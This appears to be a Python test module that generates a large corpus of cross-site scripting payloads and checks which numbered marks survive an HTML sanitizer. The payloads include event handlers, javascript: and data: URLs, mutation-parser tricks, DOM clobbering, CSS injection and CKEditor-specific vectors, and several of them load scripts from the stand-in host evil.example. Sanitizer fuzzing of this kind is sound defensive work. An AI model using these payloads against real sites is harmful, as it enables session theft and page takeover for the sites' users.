"""Attacks by mark-up, generated: tags by handlers by addresses by the places that parsers misread.

Each calls alert, or asks evil.example for something, in a browser that lets it.
"""

import itertools
import re

SCRIPTS = [
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "self[atob('YWxlcnQ=')](1)",
    "import('//evil.example/x')",
]
HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforeinput", "oncut", "onwheel", "onbegin", "onpageshow", "onhashchange", "oncontentvisibilityautostatechange",
    "onscrollend", "onbeforetoggle", "onsecuritypolicyviolation", "OnErRoR", "onfocusin", "onselectstart", "onresize",
]  # fmt: skip
ELEMENTS = [
    "img src=x", "img/src=x", "svg", "svg/", "body", "iframe", "iframe srcdoc=<script>alert(1)</script>", "video src=x",
    "audio src=x", "video><source", "details open", "input autofocus", "a href=#s-x", "p", "table", "td", "object data=x",
    "embed src=x", "marquee", "select autofocus", "textarea autofocus", "style", "link rel=stylesheet href=x", "script src=x",
    "svg><animate attributeName=x dur=1s", "svg><image href=x", "svg><use href=#x", "math><mtext", "keygen autofocus",
    "button popovertarget=x", "dialog open", "form", "isindex", "x contenteditable", "image src=x", "track src=x", "bgsound src=x",
    "h2", "figure data-picture=6f1c3c7e-0d0e-4a40-9d6c-0a4f6f4d2f10", "span lang=en", "th scope=col", "frameset", "portal src=x",
]  # fmt: skip
SEPARATORS = [" ", "/", "\n", "\t", "\x0c", " x='>' ", '"', "/x/"]
ENDINGS = [">x", " x=", ">", "//", "\n>", "<"]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript://evil.example/%0aalert(1)", "javascript:/*--></title>*/alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "vbscript:msgbox(1)", "livescript:alert(1)",
    "//evil.example/", "/\\evil.example/", "\\\\evil.example", "/\t/evil.example/", "http:evil.example", "https:///evil.example",
    "http:\\\\evil.example", "blob:https://evil.example/1", "file:///etc/passwd", "ftp://evil.example", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "ws://evil.example", "#\"onclick=alert(1)", "mailto:a@b?x=\"onclick=alert(1)//", "tel:1\"onclick=alert(1)",
    "https://evil.example/\"onmouseover=alert(1) x=\"", "%6aavascript:alert(1)", "javascript\u200b:alert(1)", "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)", "jar:https://evil.example!/x", "intent://evil.example#Intent;end",
]  # fmt: skip
CARRIERS = [
    '<a href="{}">x</a>', "<a href={}>x</a>", '<blockquote cite="{}">x</blockquote>', '<img src="{}">', '<img srcset="{} 2x">',
    '<iframe src="{}"></iframe>', '<form action="{}"><button formaction="{}">x</button></form>', '<base href="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<svg><script href="{}"></script></svg>', '<object data="{}"></object>',
    '<embed src="{}">', '<math href="{}">x</math>', '<area href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">', '<body background="{}">', '<table background="{}"><tr><td>x', '<video poster="{}"></video>',
    '<input type=image src="{}">', '<p style="background:url({})">x</p>', '<style>p{{background:url({})}}</style>',
    '<svg><set attributeName=href to="{}">', '<a ping="{}" href="/x">x</a>', '<picture><source srcset="{}"><img src=x></picture>',
    '<svg><image href="{}"/></svg>', '<svg><feImage href="{}"/></svg>', '<q cite="{}">x</q>', '<ins cite="{}">x</ins>',
    '<script src="{}"></script>', '<applet code="{}"></applet>', '<portal src="{}"></portal>', '<link rel=preload as=image href="{}">',
    '<a href="#" target="_blank" action="{}">x</a>', '<figure data-picture="{}"></figure>', '<abbr title="{}">x</abbr>',
]  # fmt: skip
PAYLOAD = "<img src=x onerror=alert(1)>"
HIDDEN = '<a title="{}">x</a>'.format(PAYLOAD.replace("<", "&lt;").replace(">", "&gt;"))
# Places whose content one parser takes for text and another for mark-up.
CONTEXTS = [
    "<svg>{}</svg>", "<svg><style>{}</style></svg>", "<svg><title>{}</title></svg>", "<svg><desc>{}</desc></svg>", "<svg></p>{}",
    "<svg><foreignObject>{}</foreignObject></svg>", "<svg><![CDATA[>{}]]></svg>", "<svg><p><style><!--</style>{}-->", "<math>{}</math>",
    "<math><mtext>{}</mtext></math>", "<math><mtext><table><mglyph><style>{}", "<math><annotation-xml encoding=text/html>{}</annotation-xml>",
    "<math><annotation-xml encoding='application/xhtml+xml'>{}</annotation-xml>", "<math><mi><style>{}</style></mi>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{}'></style></h1>", "<noscript>{}</noscript>",
    "<noscript><p title=\"</noscript>{}\">", "<noembed><p title=\"</noembed>{}\">", "<noframes><p title='</noframes>{}'>",
    "<template>{}</template>", "<template shadowrootmode=open>{}</template>", "<select>{}</select>", "<select><option>{}</option></select>",
    "<select><template>{}</template></select>", "<table>{}</table>", "<table><caption>{}</caption></table>", "<table><colgroup>{}</colgroup></table>",
    "<table><tr>{}</tr></table>", "<table><form>{}</form></table>", "<table><svg><style>{}</style></svg></table>", "<title>{}</title>",
    "<textarea>{}</textarea>", "<xmp>{}</xmp>", "<style>{}</style>", "<script><!--{}--></script>", "<iframe>{}</iframe>", "<!--{}-->",
    "<!-->{}-->", "<!--->{}-->", "<!--x--!>{}-->", "<!x>{}", "<?x {}?>", "<?x ?>{}", "</x {}>", "<![CDATA[{}]]>", "<!DOCTYPE x [{}]>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<a><b></a>{}</b>", "<p><a><table><a>{}</table></a>", "<button><p></button>{}",
    "<listing>{}</listing>", "<plaintext hidden>{}", "<frameset>{}</frameset>", "<li><dd>{}", "<ruby><rtc>{}", "<body>{}</body></html>{}",
    '<abbr title="&quot;>{}">x</abbr>', '<a href="/x&quot;>{}">x</a>', "<img alt='`'>{}<p title='`'>", "<scr<script>ipt>{}", "<<p>{}",
    "\x00<\x00p\x00>{}", "<dialog open>{}</dialog>", "<details open>{}</details>", "<object><p title='</object>{}'></object>",
    "<audio><p title='</audio>{}'></audio>", "<svg><a><rect/><foreignObject><p>{}</p></foreignObject></a></svg>", "&lt;p&gt;{}",
]  # fmt: skip
CLOBBERS = [
    f'<a id="{name}" name="{name}" href="/x">x</a><p id="{name}">y</p><form name="{name}"></form><img name="{name}">'
    for name in ["body", "cookie", "getElementById", "forms", "location", "attributes", "parentNode", "__proto__", "CKEDITOR", "Newsroom"]
]  # fmt: skip
STYLES = [
    "background:url(//evil.example/)", "width:expression(alert(1))", "behavior:url(#default#userData)", "-moz-binding:url(//evil.example/)",
    "position:fixed;inset:0", "@import '//evil.example/'", "animation-name:x", "background:\\75rl(//evil.example)", "color:red;}</style>",
    "list-style:url(//evil.example/)", "cursor:url(//evil.example/),auto", "content:url(//evil.example/)", "--x:url(//evil.example)",
]  # fmt: skip
ODD = [
    "{{constructor.constructor('alert(1)')()}}<b v-on:click=alert(1) @click=alert(1) x-on:click=alert(1) ng-click=alert(1)>x</b>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)>#x'>",
    "<span lang='en&quot; onclick=&quot;alert(1)'>x</span>", '<th scope="x onclick=alert(1)" colspan="99999999">x</th>',
    "<a href=\"https://e.org/\" target=_blank rel='opener' ping=//evil.example style=x>x</a>",
    "<script>alert(1)</script>", "<script type=module>alert(1)</script>", "<script\n>alert(1)</script\n>", "<sCrIpT>alert(1)</ScRiPt>",
    "<script/x>alert(1)</script>", "<script>alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script>&#97;lert(1)</script></svg>",
    "<math><script>alert(1)</script></math>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/\"]}]}</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"//evil.example/\"}}</script>", "<img src=x:x onerror\x0b=alert(1)>", "<img \x0csrc=x\x0conerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img/src='x'/onerror='alert(1)'>", "<img src=x onerror=\"&#97;lert(1)\">",
    "<img src=x onerror='eval(\"\\x61lert(1)\")'>", "<img src=x one\x00rror=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "<p><cke:script>alert(1)</cke:script></p>",
    "<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E-->", "<p data-cke-saved-href='javascript:alert(1)' data-cke-pa-onclick='alert(1)'>x</p>",
    "<a data-cke-saved-href=\"javascript:alert(1)\" href=\"/x\">x</a>", "<p class=cke_widget_wrapper data-cke-widget-data='%7B%7D'>x</p>",
    "<figure data-picture='6f1c3c7e-0d0e-4a40-9d6c-0a4f6f4d2f10\" onclick=\"alert(1)'></figure>", "<img data-cke-realelement='%3Cscript%3Ealert(1)%3C/script%3E'>",
]  # fmt: skip


def handlers():
    """Yield an element with a handler for every pair of them, with separators, scripts and endings in turn."""
    turns = itertools.cycle(itertools.product(SCRIPTS, SEPARATORS, ENDINGS))
    for number, (element, handler) in enumerate(itertools.product(ELEMENTS, HANDLERS)):
        if number % 4 == 0:
            script, separator, ending = next(turns)
            yield f"<{element}{separator}{handler}={script}{ending}"


def addresses():
    """Yield every carrier with addresses in turn, and links with every address."""
    for number, carrier in enumerate(CARRIERS):
        chosen = ADDRESSES if number == 0 else ADDRESSES[number % 7 :: 7]
        for address in chosen:
            yield carrier.replace("{}", address).replace("{{", "{").replace("}}", "}")


def mutations():
    """Yield a payload, plain, quoted and as a script, in every place that a parser may misread."""
    for context in CONTEXTS:
        for payload in [PAYLOAD, HIDDEN, "<script>alert(1)</script>", "<svg/onload=alert(1)>"]:
            yield context.replace("{}", payload)


VECTORS = list(
    dict.fromkeys(
        [
            *handlers(),
            *addresses(),
            *mutations(),
            *CLOBBERS,
            *ODD,
            *(f'<p style="{style}">x</p>' for style in STYLES),
        ]
    )
)
# Ends whatever a vector left open, so that the next one in the same text is as alive as alone.
CLOSED = (
    ">\"'>-->]]></title></textarea></style></script></xmp></noscript></noembed></noframes></iframe></object></audio></video>"
    "</template></option></select></mtext></annotation-xml></math></desc></foreignObject></svg></button></form></td></tr></table>"
)


SWALLOWING = (
    "plaintext",
    "frameset",
    "mglyph><style></math>",
    "<audio><p",
)  # the rest of a text, whatever ends them


def batches(count):
    """Return all vectors in so many texts, each followed by a numbered mark; what swallows marks comes last."""
    ordered = sorted(enumerate(VECTORS), key=lambda pair: any(word in pair[1] for word in SWALLOWING))
    marked = [f"<div>{vector}{CLOSED}</div><p>mark{number}</p>\n" for number, vector in ordered]
    return ["".join(marked[start::count]) for start in range(count)]


def marks_of(text):
    """Return the marks that are left in a text, without the vectors between them."""
    return re.findall(r"\bmark[0-9]+\b", text)
